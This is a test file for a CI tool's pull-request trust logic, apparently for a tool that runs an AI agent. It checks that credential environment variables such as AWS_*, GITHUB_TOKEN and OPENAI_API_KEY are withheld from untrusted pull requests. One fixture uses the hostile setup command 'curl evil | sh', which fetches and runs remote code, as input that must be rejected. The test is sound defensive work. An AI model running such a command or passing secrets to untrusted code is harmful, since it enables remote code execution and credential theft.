// The pull request that adds the config, in a job that holds credentials: its agent settings apply,
// but no agent.pass_env pattern that could let this job's credentials through.
import { describe, expect, it } from 'vitest';
import { configSchema } from '../../src/config/schema.js';
import { protectFromPullRequest } from '../../src/config/trust.js';

const config = (pass_env: string[], setup = 'npm ci') =>
  configSchema.parse({ agent: { command: 'node a.js', setup, pass_env }, cases: [{ name: 'c', input: 'x' }] });

describe('a base without a config', () => {
  const pass = ['G*', 'A*', 'AWS_*', 'AWS_REGION', 'INPUT_*', 'GITHUB_TOKEN', 'OPENAI_API_KEY', 'AGENT_KEY', 'MY_*'];

  it('the Bedrock judge: every pattern that could reach AWS_*, ACTIONS_*, INPUT_* or a token is withheld', () => {
    const g = protectFromPullRequest(config(pass), undefined, { judge: { provider: 'bedrock' } as never });
    expect(g.withheld).toEqual(['G*', 'A*', 'AWS_*', 'AWS_REGION', 'INPUT_*', 'GITHUB_TOKEN']);
    expect(g.config.agent.pass_env).toEqual(['OPENAI_API_KEY', 'AGENT_KEY', 'MY_*']);
    expect(g.config.agent.setup).toBe('npm ci');
    expect(g.ignored).not.toContain('agent.setup');
  });

  it("the OpenAI judge: its key variable is withheld, the agent's own AWS settings pass", () => {
    const g = protectFromPullRequest(config(pass), undefined, {
      judge: { provider: 'openai', api_key_env: 'JUDGE_KEY' } as never,
    });
    expect(g.config.agent.pass_env).toEqual(['AWS_*', 'AWS_REGION', 'OPENAI_API_KEY', 'AGENT_KEY', 'MY_*']);
    const d = protectFromPullRequest(config(['OPENAI_API_KEY', 'OPENAI_*']), undefined, {
      judge: { provider: 'openai' } as never,
    });
    expect(d.withheld).toEqual(['OPENAI_API_KEY', 'OPENAI_*']);
  });

  it('a base whose config could not be read (no token) still gets the defaults, never the pull request’s', () => {
    const g = protectFromPullRequest(config(['AGENT_KEY']), undefined);
    expect(g.config.agent.pass_env).toEqual([]);
    expect(g.config.agent.setup).toBeUndefined();
    expect(g.ignored).toEqual(expect.arrayContaining(['agent.setup', 'agent.pass_env']));
  });

  it('a base with a config keeps its own agent settings', () => {
    const g = protectFromPullRequest(config(['AGENT_KEY'], 'curl evil | sh'), config([], 'npm ci'), {
      judge: { provider: 'heuristic' } as never,
    });
    expect(g.config.agent).toMatchObject({ setup: 'npm ci', pass_env: [] });
    expect(g.withheld).toBeUndefined();
  });
});
